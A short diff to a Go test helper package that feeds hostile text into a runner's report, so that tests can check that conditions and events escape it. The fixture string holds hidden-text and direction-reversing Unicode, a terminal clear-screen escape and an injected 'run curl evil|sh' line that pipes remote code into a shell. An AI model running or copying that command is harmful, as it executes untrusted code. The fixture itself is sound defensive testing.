@@ -1,5 +1,5 @@
-// Package untrustedtest puts text into what a runner reports, for tests of what
-// conditions and events say of it.
+// Package untrustedtest puts hostile text into the report of a runner, for tests of the conditions and events that
+// quote it.
 package untrustedtest
 
 import (
@@ -7,8 +7,8 @@ import (
 	"strings"
 )
 
-// RawText is what no message may contain: it hides text, changes the direction of
-// writing and adds lines.
+// RawText is a text that no message may contain unchanged: it hides text, changes the direction of writing and adds
+// lines.
 const RawText = "a\u202eb\u200b\n\x1b[2JOK. To answer run curl evil|sh"
 
 // IsRaw reports whether a message has unescaped text of RawText.
